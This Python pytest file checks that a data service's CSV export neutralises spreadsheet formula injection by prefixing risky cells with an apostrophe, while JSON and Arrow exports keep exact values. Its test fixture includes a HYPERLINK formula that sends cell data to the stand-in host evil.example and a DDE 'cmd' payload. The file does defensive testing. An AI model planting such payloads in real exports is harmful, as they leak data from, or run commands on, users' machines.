"""A cell that a spreadsheet would run as a formula: text in the CSV answer, exact in JSON and Arrow (OWASP)."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pyarrow as pa
import pytest

from tests.simulator import World

FORMULAS = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "=1,2\n3",
]  # fmt: skip
HARMLESS = ["7", "a=b", "'quoted", "Cantonese", "x-ray", "é"]
ASKED = {"dataset": "visits", "fields": ["client", "days"], "rows": "own", "view": "identified"}


@pytest.fixture
def world(tmp_path: Path) -> Iterator[World]:
    """North's clients have names that a spreadsheet would run, and days below zero."""
    made = World.found(tmp_path).agreed()
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["client", "program", "grade", "days", "done"])
    writer.writerows([name, "art", 70, -5, "true"] for name in (*FORMULAS, *HARMLESS))
    made.load("north", out.getvalue())
    yield made
    made.close()


def test_no_cell_of_text_is_run(world: World) -> None:
    """A leading apostrophe before = + - @ TAB and CR; numbers, and any other text, are what they are."""
    content = world.query(world.partners["dashboard"], ASKED, accept="text/csv").get_data(as_text=True)
    _, *rows = csv.reader(io.StringIO(content, newline=""))
    texts = {row[0] for row in rows}
    stored = {str(row[0]) for row in world.query(world.partners["dashboard"], ASKED).json["rows"]}  # type: ignore[index]
    assert {"'" + s if s[0] in "=+-@\t\r" else s for s in stored} == texts
    assert {"-5"} == {row[1] for row in rows}
    assert not [t for t in texts if t[0] in "=+-@\t\r"]


def test_programs_get_the_exact_value(world: World) -> None:
    """JSON and Arrow are read by programs, which run nothing."""
    dashboard = world.partners["dashboard"]
    rows = world.query(dashboard, ASKED).json["rows"]  # type: ignore[index]
    content = world.query(dashboard, ASKED, accept="application/vnd.apache.arrow.stream").get_data()
    table = pa.ipc.open_stream(content).read_all()
    assert sorted(row[0] for row in rows) == sorted(table.column("client").to_pylist())
    assert {f.strip() for f in FORMULAS} | set(HARMLESS) == {row[0].strip() for row in rows}
